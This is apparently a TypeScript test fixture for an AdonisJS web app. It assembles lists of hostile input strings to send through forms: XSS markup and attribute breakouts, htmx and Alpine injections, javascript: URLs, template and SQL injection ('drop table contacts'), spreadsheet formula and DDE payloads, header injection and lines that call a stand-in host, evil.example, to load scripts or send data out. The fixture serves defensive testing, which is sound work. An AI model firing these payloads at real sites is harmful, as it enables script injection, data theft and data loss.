import { readFileSync } from 'node:fs'
import app from '@adonisjs/core/services/app'

/** The big list of naughty strings, all of it. */
export function naughtyStrings(): string[] {
  return JSON.parse(readFileSync(app.makePath('tests/fixtures/blns/blns.json'), 'utf8')) as string[]
}

/** What would run, or take something along, were it ever written into a page as it is. */
export const markupPayloads: string[] = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<script nonce="x">pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img/src="x"/onerror=pwned()//',
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '</textarea><img src=x onerror=pwned()>',
  '</title><svg/onload=pwned()>',
  '</style><svg onload=pwned()>',
  '--><svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<object data="javascript:pwned()">',
  '<embed src="javascript:pwned()">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><input type=submit>',
  '<button formaction="javascript:pwned()">x',
  '<details open ontoggle=pwned()>x',
  '<input autofocus onfocus=pwned()>',
  '<body onload=pwned()>',
  '<marquee onstart=pwned()>x',
  '<video><source onerror=pwned()></video>',
  '<template><img src=x onerror=pwned()></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<a href="javascript:pwned()">x</a>',
  '<dialog open onfocus=pwned() autofocus>',
  '<x onclick=pwned() contenteditable>x',
]

/** Out of an attribute's quotes. */
export const attributePayloads: string[] = [
  '" onmouseover="pwned()',
  "' onmouseover='pwned()",
  '` onmouseover=`pwned()',
  '" autofocus onfocus=pwned() x="',
  '"onfocus=pwned() autofocus tabindex=1 "',
  ' onmouseover=pwned() ',
  '&quot; onmouseover=&quot;pwned()',
  '&#34;&#62;&#60;img src=x onerror=pwned()&#62;',
  '\\" onmouseover=\\"pwned()',
  '" style="background:url(//evil.example)',
  'x" formaction="//evil.example',
  '%22%20onmouseover=%22pwned()',
]

/** Attributes that the page's own scripts would obey. */
export const scriptPayloads: string[] = [
  '" hx-get="/logout" hx-trigger="load',
  '" hx-on::load="pwned()" x="',
  '" hx-on:click="pwned()',
  '" data-hx-post="/app/settings/agency" data-hx-trigger="load',
  '" hx-vals="js:{a:pwned()}',
  '" hx-headers="js:{a:pwned()}',
  '" hx-swap-oob="true',
  '<div hx-get="/app" hx-trigger="load" hx-target="body">',
  '<div hx-nonce="x" hx-on::load="pwned()">',
  '<div x-data x-init="pwned()">',
  '<div x-data="{a:1}" @click="pwned()" :href="a">',
  '" x-data x-init="pwned()" x="',
  '" @load.window="pwned()" x="',
  '" :class="pwned()" x="',
  '" x-html="pwned()" x="',
  '<hx-partial hx-target="body"><img src=x onerror=pwned()></hx-partial>',
  '<template hx hx-target="body"><img src=x onerror=pwned()></template>',
]

/** Addresses that run, where a text becomes a link. */
export const addressPayloads: string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  ' javascript:pwned()',
  'javascript&colon;pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example/x',
  'https://evil.example/"onmouseover="pwned()',
  'http://x/?<img src=x onerror=pwned()>',
]

/** Languages of templates, messages, databases and lists: none of them is spoken in a text. */
export const languagePayloads: string[] = [
  '{{ 7 * 191 }}',
  '{{{ 7 * 191 }}}',
  '{{ this.constructor.constructor("return process")() }}',
  '@include("letters/welcome")',
  '@eval(pwned())',
  '@{{ 7 * 191 }}',
  '${7*191}',
  '#{7*191}',
  '<%= 7*191 %>',
  '{name}',
  '{name, select, other {pwned}}',
  '{count, plural, one {x} other {y}',
  "'{' '' {0} {",
  't:errors.404.title',
  'errors.404.title',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "'; drop table contacts; --",
  "' or '1'='1",
  '\\',
  '%',
  '%_%',
  '_',
  '? ?? ??? :name $1',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  '\t=1+1',
  '＝1+1',
  '"quoted", and; separated\ttoo',
  'x\r\nBcc: victim@evil.example',
  'x\nset-cookie: a=b',
  'line one\nline two\r\nline three',
  '\u001b[31mred\u001b[0m',
  '[2026-01-01] INFO signed in',
  '{"level":30,"msg":"forged"}',
]

/** Signs that are strange by themselves. */
export const signPayloads: string[] = [
  'nul\u0000inside',
  '\u0000',
  'bell\u0007 back\u0008 escape\u001b delete\u007f',
  'lone surrogate \ud800 here',
  'right\u202eto left',
  'zero\u200bwidth\u200djoined',
  '\ufeffmark',
  'Zalgo Z̶̛̤a̷͎l̵̦g̶̰o̵',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ',
  'ＡＢＣ',
  'İıſK',
  'line\u2028separator\u2029paragraph',
  '\u00a0hard\u00a0space\u00a0',
  'a'.repeat(60),
]

export const payloads: string[] = [
  ...markupPayloads,
  ...attributePayloads,
  ...scriptPayloads,
  ...addressPayloads,
  ...languagePayloads,
  ...signPayloads,
]

/** Several strings in one text, each as a whole, so that fewer forms need to be sent. */
export function packed(strings: string[], most: number): string[] {
  const packs: string[] = []
  for (const text of strings.filter((one) => one.length <= most)) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + text.length + 3 <= most)
      packs[packs.length - 1] = `${last} ~ ${text}`
    else packs.push(text)
  }
  return packs
}
